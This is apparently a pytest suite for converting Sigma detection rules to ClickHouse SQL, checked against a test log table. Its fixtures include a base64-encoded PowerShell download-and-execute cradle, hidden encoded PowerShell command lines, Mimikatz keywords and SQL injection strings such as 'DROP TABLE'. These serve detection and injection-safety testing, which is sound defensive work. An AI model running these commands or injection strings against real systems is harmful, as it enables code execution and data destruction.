"""Sigma → ClickHouse conversion: the SQL each modifier produces, and what it selects from a real
chDB log table."""

from __future__ import annotations

import base64
from datetime import timedelta
from typing import Any

import pytest

from core.errors import SigmaValidationFailed
from tests.tools.sigma.conftest import T0, LogTable, rule_text
from tools.sigma import convert, convert_all
from tools.sigma.logsource import scope_sql
from tools.sigma.sql import string_literal

NEUTRAL = {"product": "acme", "category": "test"}
"""A logsource with no field mapping (and no scope: these tests look at the detection alone)."""
SYSMON = "Microsoft-Windows-Sysmon/Operational"


def scoped(detection: dict[str, Any], logsource: dict[str, str]) -> str:
    """The whole converted condition: the logsource's scope AND the detection."""
    return convert(rule_text(detection, logsource=logsource)).condition


def condition(detection: dict[str, Any], logsource: dict[str, str] | None = None) -> str:
    """The detection's SQL alone, taken from the converted condition after checking that it is
    the logsource's scope ANDed with it."""
    source = logsource or NEUTRAL
    sql = scoped(detection, source)
    scope = scope_sql(source.get("product"), source.get("category"), source.get("service"))
    prefix = f"({scope}) AND ("
    assert sql.startswith(prefix), sql
    assert sql.endswith(")"), sql
    return sql[len(prefix) : -1]


def proc(raw: str, **columns: Any) -> dict[str, Any]:
    """A Sysmon process-creation row."""
    return {"raw": raw, "event_code": "1", "event_provider": SYSMON, **columns}


def row(raw: str, **fields: str) -> dict[str, Any]:
    return {"raw": raw, "fields": fields}


def test_metadata_is_kept() -> None:
    text = rule_text(
        {"sel": {"Image|endswith": "\\cmd.exe"}, "condition": "sel"},
        title="Cmd spawned",
        level="critical",
        status="stable",
        description="cmd.exe ran",
        tags=["attack.execution", "attack.t1059.001", "attack.T1059", "cve.2021-44228"],
    )
    meta = convert(text).meta
    assert meta.id == "5d8fd9da-6916-45ef-8d4d-3fa9d19d1a64"
    assert (meta.title, meta.level, meta.status) == ("Cmd spawned", "critical", "stable")
    assert meta.techniques == ("T1059.001", "T1059")
    assert "attack.execution" in meta.tags
    assert (meta.product, meta.category, meta.service) == ("windows", "process_creation", None)
    assert meta.logsource == "windows/process_creation"


def test_windows_fields_map_to_columns_and_event_ids_are_text(log_table: LogTable) -> None:
    sql = scoped(
        {
            "sel": {
                "EventID": 4688,
                "Image|endswith": "\\cmd.exe",
                "ParentImage|endswith": "\\winword.exe",
                "OriginalFileName": "Cmd.Exe",
            },
            "condition": "sel",
        },
        {"product": "windows", "service": "security"},
    )
    assert "`event_code` = '4688'" in sql
    assert "endsWith(lowerUTF8(`process_executable`), lowerUTF8('\\\\cmd.exe'))" in sql
    assert "`process_parent_executable`" in sql
    assert "`x_OriginalFileName`" in sql  # a promoted field: its own narrow column
    assert "lowerUTF8(`event_provider`) IN ('security'" in sql  # the service's channel
    log_table.insert(
        [
            {
                "raw": "hit",
                "event_code": "4688",
                "event_provider": "Security",
                "process_executable": "C:\\Windows\\System32\\CMD.EXE",
                "process_parent_executable": "C:\\Office\\WINWORD.EXE",
                "fields": {"OriginalFileName": "cmd.exe", "Channel": "Security"},
            },
            {
                "raw": "other channel",
                "event_code": "4688",
                "event_provider": "System",
                "process_executable": "C:\\Windows\\System32\\cmd.exe",
                "process_parent_executable": "C:\\Office\\winword.exe",
                "fields": {"OriginalFileName": "cmd.exe", "Channel": "System"},
            },
            {
                "raw": "other event id",
                "event_code": "4689",
                "event_provider": "Security",
                "process_executable": "C:\\Windows\\System32\\cmd.exe",
                "process_parent_executable": "C:\\Office\\winword.exe",
                "fields": {"OriginalFileName": "cmd.exe", "Channel": "Security"},
            },
        ]
    )
    assert log_table.matching(sql) == ["hit"]


def test_process_creation_is_narrowed_to_its_event_ids(log_table: LogTable) -> None:
    sql = scoped(
        {"sel": {"Image|endswith": "\\cmd.exe"}, "condition": "sel"},
        {"product": "windows", "category": "process_creation"},
    )
    assert "`event_code` IN ('1')" in sql
    assert "`event_code` IN ('4688')" in sql
    log_table.insert(
        [
            proc("creation", process_executable="C:\\cmd.exe"),
            {
                "raw": "security 4688",
                "event_code": "4688",
                "event_provider": "Security",
                "process_executable": "C:\\cmd.exe",
            },
            {
                "raw": "network",
                "event_code": "3",
                "event_provider": SYSMON,
                "process_executable": "C:\\cmd.exe",
            },
            # Event 1 of another log (the kernel's time change) is no process creation.
            {
                "raw": "kernel 1",
                "event_code": "1",
                "event_provider": "System",
                "process_executable": "C:\\cmd.exe",
            },
        ]
    )
    assert log_table.matching(sql) == ["creation", "security 4688"]


def test_integer_columns_compare_as_numbers_and_survive_text(log_table: LogTable) -> None:
    logsource = {"product": "windows", "category": "network_connection"}
    numeric = condition({"sel": {"DestinationPort": [443, "8443"]}, "condition": "sel"}, logsource)
    assert "ifNull(`destination_port` IN (443, 8443), 0)" in numeric
    single = condition({"sel": {"DestinationPort": "443"}, "condition": "sel"}, logsource)
    assert "ifNull(`destination_port` = 443, 0)" in single
    text = condition({"sel": {"DestinationPort|startswith": "44"}, "condition": "sel"}, logsource)
    assert "startsWith(ifNull(toString(`destination_port`), ''), '44')" in text
    junk = condition({"sel": {"DestinationPort": "https"}, "condition": "sel"}, logsource)
    negated = condition({"sel": {"DestinationPort": 443}, "condition": "not sel"}, logsource)
    log_table.insert(
        [
            {"raw": "443", "event_code": "3", "destination_port": 443},
            {"raw": "8443", "event_code": "3", "destination_port": 8443},
            {"raw": "80", "event_code": "3", "destination_port": 80},
            {"raw": "none", "event_code": "3"},
        ]
    )
    assert log_table.matching(numeric) == ["443", "8443"]
    assert log_table.matching(single) == ["443"]
    assert log_table.matching(text) == ["443"]
    assert log_table.matching(junk) == []
    # An absent port is not 443: NOT must select it (no NULL swallowing the row).
    assert log_table.matching(negated) == ["80", "8443", "none"]


def test_numbers_against_text_are_quoted(log_table: LogTable) -> None:
    sql = condition({"sel": {"LogonType": [3, 10], "Count": 7}, "condition": "sel"})
    assert "`x_LogonType` IN ('3', '10')" in sql
    assert "fields['Count'] = '7'" in sql
    log_table.insert([row("yes", LogonType="10", Count="7"), row("no", LogonType="2", Count="7")])
    assert log_table.matching(sql) == ["yes"]


def test_strings_match_case_insensitively_unless_cased(log_table: LogTable) -> None:
    plain = condition({"sel": {"Name": "PowerShell.EXE"}, "condition": "sel"})
    assert plain == "lowerUTF8(fields['Name']) = lowerUTF8('PowerShell.EXE')"
    cased = condition({"sel": {"Name|cased": "PowerShell.EXE"}, "condition": "sel"})
    assert cased == "fields['Name'] = 'PowerShell.EXE'"
    listed = condition({"sel": {"Name": ["a.exe", "B.exe"]}, "condition": "sel"})
    assert " IN " not in listed  # IN is exact: only for values without letters
    umlaut = condition({"sel": {"Name|contains": "ÄRGER"}, "condition": "sel"})
    log_table.insert(
        [
            row("lower", Name="powershell.exe"),
            row("exact", Name="PowerShell.EXE"),
            row("b", Name="b.EXE"),
            row("umlaut", Name="viel ärger hier"),
        ]
    )
    assert log_table.matching(plain) == ["exact", "lower"]
    assert log_table.matching(cased) == ["exact"]
    assert log_table.matching(listed) == ["b"]
    assert log_table.matching(umlaut) == ["umlaut"]


def test_contains_all_startswith_endswith_and_wildcards(log_table: LogTable) -> None:
    contains_all = condition(
        {"sel": {"CommandLine|contains|all": ["-nop", " -w hidden"]}, "condition": "sel"}
    )
    assert contains_all.count("positionCaseInsensitiveUTF8(fields['CommandLine']") == 2
    starts = condition({"sel": {"CommandLine|startswith": "POWERSHELL"}, "condition": "sel"})
    assert starts == ("startsWith(lowerUTF8(fields['CommandLine']), lowerUTF8('POWERSHELL'))")
    ends = condition({"sel": {"CommandLine|endswith": "hidden"}, "condition": "sel"})
    wildcard = condition({"sel": {"CommandLine": "power*-w ?idden"}, "condition": "sel"})
    assert wildcard == "match(fields['CommandLine'], '(?is)^power.*-w .idden$')"
    log_table.insert(
        [
            row("a", CommandLine="powershell -nop -w hidden"),
            row("b", CommandLine="PowerShell -w Hidden -NOP x"),
            row("c", CommandLine="cmd /c powershell -nop"),
        ]
    )
    assert log_table.matching(contains_all) == ["a", "b"]
    assert log_table.matching(starts) == ["a", "b"]
    assert log_table.matching(ends) == ["a"]
    assert log_table.matching(wildcard) == ["a"]


def test_many_contains_values_become_one_multisearch(log_table: LogTable) -> None:
    hashes = [f"MD5={index:032x}" for index in range(600)]
    sql = condition({"sel": {"Hashes|contains": hashes}, "condition": "sel"})
    assert sql.count("multiSearchAnyCaseInsensitiveUTF8(`x_Hashes`") == 3  # 255 per call
    assert "positionCaseInsensitiveUTF8" not in sql
    log_table.insert(
        [
            row("hit", Hashes=f"SHA1=00,{hashes[599].lower()},IMPHASH=1"),
            row("miss", Hashes="MD5=ffff"),
        ]
    )
    assert log_table.matching(sql) == ["hit"]


def test_regular_expressions(log_table: LogTable) -> None:
    sensitive = condition(
        {"sel": {"CommandLine|re": r"-[Ee]nc\s+[A-Za-z0-9+/=]{8,}"}, "condition": "sel"}
    )
    assert sensitive == (
        "match(fields['CommandLine'], '(?-s)-[Ee]nc\\\\s+[A-Za-z0-9+/=]\\x7B8,\\x7D')"
    )
    insensitive = condition({"sel": {"CommandLine|re|i": "^invoke-"}, "condition": "sel"})
    assert "'(?i-s)^invoke-'" in insensitive
    log_table.insert(
        [
            row("enc", CommandLine="powershell -enc SQBFAFgAIAAo"),
            row("ENC", CommandLine="powershell -ENC SQBFAFgAIAAo"),
            row("invoke", CommandLine="INVOKE-Mimikatz"),
        ]
    )
    assert log_table.matching(sensitive) == ["enc"]
    assert log_table.matching(insensitive) == ["invoke"]


def test_a_regex_dot_crosses_line_breaks_only_with_the_s_flag(log_table: LogTable) -> None:
    plain = condition({"sel": {"CommandLine|re": "cmd.exe./c"}, "condition": "sel"})
    dotall = condition({"sel": {"CommandLine|re|s": "cmd.exe./c"}, "condition": "sel"})
    log_table.insert(
        [
            row("one-line", CommandLine="cmd.exe /c whoami"),
            row("two-lines", CommandLine="cmd.exe\n/c whoami"),
        ]
    )
    assert log_table.matching(plain) == ["one-line"]
    assert sorted(log_table.matching(dotall)) == ["one-line", "two-lines"]


def test_pcre_only_regex_is_rejected_with_re2_reason() -> None:
    with pytest.raises(SigmaValidationFailed) as caught:
        condition({"sel": {"CommandLine|re": "foo(?=bar)"}, "condition": "sel"})
    assert caught.value.code == "AURORA-4222"
    issue = caught.value.detail["errors"][0]
    assert issue["type"] == "SigmaRegularExpressionError"
    assert "invalid perl operator: (?=" in issue["message"]


def test_base64offset(log_table: LogTable) -> None:
    sql = condition({"sel": {"CommandLine|base64offset|contains": "http://"}, "condition": "sel"})
    assert sql.count("fields['CommandLine']") == 1  # three offsets, one multiSearch
    encoded = base64.b64encode(b"IEX (New-Object Net.WebClient).DownloadString('http://x')")
    log_table.insert(
        [
            row("b64", CommandLine=f"powershell -e {encoded.decode()}"),
            row("plain", CommandLine="http://"),
        ]
    )
    assert log_table.matching(sql) == ["b64"]


def test_windash(log_table: LogTable) -> None:
    sql = condition({"sel": {"CommandLine|windash|contains": " -enc "}, "condition": "sel"})
    log_table.insert(
        [
            row("dash", CommandLine="powershell -enc AAA"),
            row("slash", CommandLine="powershell /enc AAA"),
            row("endash", CommandLine="powershell \u2013enc AAA"),
            row("none", CommandLine="powershell enc AAA"),
        ]
    )
    assert log_table.matching(sql) == ["dash", "endash", "slash"]


def test_exists_and_null(log_table: LogTable) -> None:
    exists = condition({"sel": {"Signature|exists": True}, "condition": "sel"})
    assert exists == "mapContains(fields, 'Signature')"
    missing = condition({"sel": {"Signature|exists": False}, "condition": "sel"})
    null = condition({"sel": {"Signature": None}, "condition": "sel"})
    assert null == "`x_Signature` = ''"
    port_null = condition({"sel": {"dst_port": None}, "condition": "sel"}, {"category": "firewall"})
    assert port_null == "isNull(`destination_port`)"
    log_table.insert(
        [
            row("signed", Signature="Microsoft"),
            row("empty", Signature=""),
            {"raw": "absent", "destination_port": 22},
        ]
    )
    assert log_table.matching(exists) == ["empty", "signed"]
    assert log_table.matching(missing) == ["absent"]
    assert log_table.matching(null) == ["absent", "empty"]
    assert log_table.matching(port_null) == ["empty", "signed"]


def test_condition_expressions(log_table: LogTable) -> None:
    detection = {
        "selection_a": {"A": "1"},
        "selection_b": {"B": "2"},
        "filter": {"C": "3"},
    }
    one_of = condition({**detection, "condition": "1 of selection_* and not filter"})
    all_of = condition({**detection, "condition": "all of them"})
    log_table.insert(
        [
            row("a", A="1"),
            row("b", B="2"),
            row("a filtered", A="1", C="3"),
            row("all", A="1", B="2", C="3"),
        ]
    )
    assert log_table.matching(one_of) == ["a", "b"]
    assert log_table.matching(all_of) == ["all"]


def test_keywords_search_raw_and_fields(log_table: LogTable) -> None:
    sql = condition(
        {"keywords": ["Invoke Mimikatz", "C:\\Temp\\evil.dll", "a*z?"], "condition": "keywords"}
    )
    assert "positionCaseInsensitiveUTF8(raw, 'Invoke Mimikatz') > 0" in sql
    assert "hasToken" not in sql
    log_table.insert(
        [
            {"raw": "... invoke mimikatz ...", "fields": {}},
            # raw JSON doubles backslashes; the flattened leaf holds the path itself
            {"raw": '{"x": "C:\\\\Temp\\\\evil.dll"}', "fields": {"x": "C:\\Temp\\evil.dll"}},
            {"raw": "nothing here", "fields": {}},
        ]
    )
    assert log_table.matching(sql) == ["... invoke mimikatz ...", '{"x": "C:\\\\Temp\\\\evil.dll"}']


def test_cidr_is_guarded_against_bad_addresses(log_table: LogTable) -> None:
    v4 = condition(
        {"sel": {"DestinationIp|cidr": ["10.0.0.0/8", "192.168.0.0/16"]}, "condition": "sel"},
        {"product": "windows", "category": "network_connection"},
    )
    assert "isIPAddressInRange(if(isIPv4String(`destination_ip`)" in v4
    v6 = condition({"sel": {"ip|cidr": "fe80::/10"}, "condition": "sel"})
    log_table.insert(
        [
            {
                "raw": "private",
                "event_code": "3",
                "destination_ip": "10.1.2.3",
                "fields": {"ip": "10.1.2.3"},
            },
            {"raw": "public", "event_code": "3", "destination_ip": "8.8.8.8"},
            {"raw": "empty", "event_code": "3", "destination_ip": ""},
            {
                "raw": "garbage",
                "event_code": "3",
                "destination_ip": "not-an-ip",
                "fields": {"ip": "x"},
            },
            {
                "raw": "v6",
                "event_code": "3",
                "destination_ip": "fe80::1",
                "fields": {"ip": "fe80::1"},
            },
        ]
    )
    assert log_table.matching(v4) == ["private"]
    assert log_table.matching(v6) == ["v6"]
    assert log_table.matching(f"NOT ({v4})") == ["empty", "garbage", "public", "v6"]


def test_compare_and_field_reference(log_table: LogTable) -> None:
    gte = condition({"sel": {"Size|gte": 1000}, "condition": "sel"})
    assert gte == "ifNull(toFloat64OrNull(fields['Size']) >= 1000, 0)"
    same = condition({"sel": {"SourceUser|fieldref": "TargetUser"}, "condition": "sel"})
    log_table.insert(
        [
            row("big same", Size="4096", SourceUser="Alice", TargetUser="alice"),
            row("small", Size="12", SourceUser="bob", TargetUser="carol"),
            row("not a number", Size="large"),
        ]
    )
    assert log_table.matching(gte) == ["big same"]
    assert log_table.matching(same) == ["big same", "not a number"]  # two absent fields agree


@pytest.mark.parametrize(
    "value",
    [
        "it's",
        "C:\\path\\",
        "'); DROP TABLE logs; --",
        "\\'; DROP DATABASE x; --",
        "100% {name:String} %(x)s",
        "line\nbreak\ttab\x00nul",
    ],
)
def test_values_cannot_inject_sql(log_table: LogTable, value: str) -> None:
    detections: list[dict[str, Any]] = [
        {"sel": {"Name": value}, "condition": "sel"},
        {"sel": {"Name|contains": value}, "condition": "sel"},
        {"sel": {"Name|startswith": value}, "condition": "sel"},
        {
            "sel": {
                "Name|re": value.replace("\\", "\\\\")
                .replace("(", "\\(")
                .replace(")", "\\)")
                .replace("{", "\\{")
                .replace("}", "\\}")
                .replace("%", "%")
            },
            "condition": "sel",
        },
        {"sel": {value: "x"}, "condition": "sel"},  # a field name is a value too
        {"keywords": [value], "condition": "keywords"},
    ]
    log_table.insert([row("target", Name=value, **{value: "x"}), row("other", Name="it")])
    for detection in detections:
        sql = condition(detection)
        assert not {"%", "{", "}"} & set(sql)
        assert log_table.matching(sql) == ["target"], sql
    assert log_table.client.command(f"EXISTS TABLE {log_table.quoted}") == 1


def test_condition_binds_with_client_side_parameters(log_table: LogTable) -> None:
    sql = condition(
        {
            "sel": {"Name|contains": "100%"},
            "keywords": ["{x:String}"],
            "condition": "sel or keywords",
        }
    )
    log_table.insert([row("hit", Name="at 100% load")])
    result = log_table.client.query(
        f"SELECT raw FROM {log_table.quoted} WHERE ({sql}) AND timestamp >= %(since)s",  # noqa: S608
        parameters={"since": T0 - timedelta(hours=1)},
    )
    assert [r[0] for r in result.result_rows] == ["hit"]


def test_string_literal_round_trips(log_table: LogTable) -> None:
    value = "a'b\\c%d{e}f\ng\x7f"
    assert (
        log_table.client.command(f"SELECT {string_literal(value)} = {string_literal(value)}") == 1
    )
    result = log_table.client.query(f"SELECT {string_literal(value)}")
    assert result.result_rows[0][0] == value


def test_other_logsources_map_to_columns(log_table: LogTable) -> None:
    proxy = condition(
        {
            "sel": {"c-uri|contains": "/evil", "sc-status": 200, "cs-host": "x.example"},
            "condition": "sel",
        },
        {"category": "proxy"},
    )
    assert "`url_full`" in proxy
    assert "ifNull(`http_response_status_code` = 200, 0)" in proxy
    assert "fields['cs-host']" in proxy
    linux = condition(
        {"sel": {"Image|endswith": "/curl", "User": "root"}, "condition": "sel"},
        {"product": "linux", "category": "process_creation"},
    )
    assert "`process_executable`" in linux
    assert "`user_name`" in linux
    dns = condition({"sel": {"query|endswith": ".onion"}, "condition": "sel"}, {"category": "dns"})
    assert "`dns_question_name`" in dns
    cloud = condition(
        {
            "sel": {"eventName": "GetPasswordData", "eventSource": "ec2.amazonaws.com"},
            "condition": "sel",
        },
        {"product": "aws", "service": "cloudtrail"},
    )
    assert "fields['eventName']" in cloud
    log_table.insert(
        [
            {
                "raw": "proxy",
                "url_full": "http://x.example/EVIL",
                "http_response_status_code": 200,
                "fields": {"cs-host": "x.example"},
            },
            {"raw": "linux", "process_executable": "/usr/bin/curl", "user_name": "root"},
            {"raw": "dns", "dns_question_name": "abc.onion"},
            {
                "raw": "cloud",
                "fields": {"eventName": "GetPasswordData", "eventSource": "ec2.amazonaws.com"},
            },
        ]
    )
    assert log_table.matching(proxy) == ["proxy"]
    assert log_table.matching(linux) == ["linux"]
    assert log_table.matching(dns) == ["dns"]
    assert log_table.matching(cloud) == ["cloud"]


def test_every_conversion_reparses_the_rule() -> None:
    text = rule_text({"sel": {"Image|endswith": "\\cmd.exe"}, "condition": "sel"})
    first, second = convert(text), convert(text)
    assert first.condition == second.condition
    # The scope once only: one branch for Sysmon's event 1, one for the Security log's 4688.
    assert first.condition.count("`event_code`") == 2


def test_placeholders_are_rejected_with_pysigma_message() -> None:
    with pytest.raises(SigmaValidationFailed) as caught:
        condition({"sel": {"User|expand": "%Admins%"}, "condition": "sel"})
    assert caught.value.detail["errors"] == [
        {
            "type": "SigmaPlaceholderError",
            "message": "Attempt to convert unhandled placeholder 'Admins' into query.",
        }
    ]


def test_invalid_yaml_and_multiple_rules_are_rejected() -> None:
    with pytest.raises(SigmaValidationFailed) as caught:
        convert("title: [unclosed")
    assert caught.value.detail["errors"][0]["type"] in ("ParserError", "ScannerError")
    two = (
        rule_text({"a": {"X": "1"}, "condition": "a"})
        + "---\n"
        + rule_text({"b": {"Y": "1"}, "condition": "b"}, id="73a9addc-0cf9-44a4-ad18-e3b7a9d1eeb4")
    )
    with pytest.raises(SigmaValidationFailed) as caught:
        convert(two)
    assert "expected one rule, found 2" in caught.value.detail["errors"][0]["message"]
    assert len(convert_all(two)) == 2


def test_validators_block_broken_rules_and_warn_on_style() -> None:
    with pytest.raises(SigmaValidationFailed) as caught:
        convert(rule_text({"sel": {"A": "1"}, "unused": {"B": "2"}, "condition": "sel"}))
    assert "DanglingDetection" in caught.value.detail["errors"][0]["message"]
    warned = convert(rule_text({"sel": {"A": "**x"}, "condition": "sel"}))
    assert any("DoubleWildcard" in warning for warning in warned.warnings)
